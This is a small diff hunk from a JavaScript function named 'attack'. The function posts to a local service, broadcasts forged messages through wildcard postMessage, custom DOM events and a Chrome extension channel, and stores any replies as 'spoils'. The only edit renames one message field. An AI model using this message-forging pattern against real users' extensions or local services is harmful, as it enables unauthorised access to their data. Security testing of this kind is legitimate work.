@@ -44,7 +44,7 @@ async function attack(address, origin) {
   await request(`http://${address}/v1/viewings`, { method: "POST", body, headers });
 
   const { runtime } = (globalThis.chrome ?? {});
-  for (const message of [{ kind: "state" }, { kind: "watched", sitting: viewing }]) {
+  for (const message of [{ kind: "state" }, { kind: "watched", session: viewing }]) {
     postMessage(message, "*");
     document.dispatchEvent(new CustomEvent("filmspool", { detail: message }));
     if (runtime?.sendMessage) spoils.extension.push(await runtime.sendMessage(new URL(origin).hostname, message).catch(() => null));
